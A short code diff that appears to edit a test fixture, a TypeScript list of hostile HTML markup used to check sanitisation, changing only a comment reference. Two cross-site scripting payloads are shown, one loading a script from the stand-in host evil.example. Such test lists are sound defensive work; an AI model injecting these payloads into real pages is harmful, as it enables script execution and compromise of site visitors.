@@ -1,4 +1,4 @@
-/** What editors, proxies and enemies may write where HTML is due; each would set `window.hacked` or call out (trust C-01). */
+/** What editors, proxies and enemies may write where HTML is due; each would set `window.hacked` or call out (F-C01). */
 export const HOSTILE_MARKUP: readonly string[] = [
   '<script>window.hacked = 1</script>',
   '<SCRIPT SRC=https://evil.example/a.js></SCRIPT>',
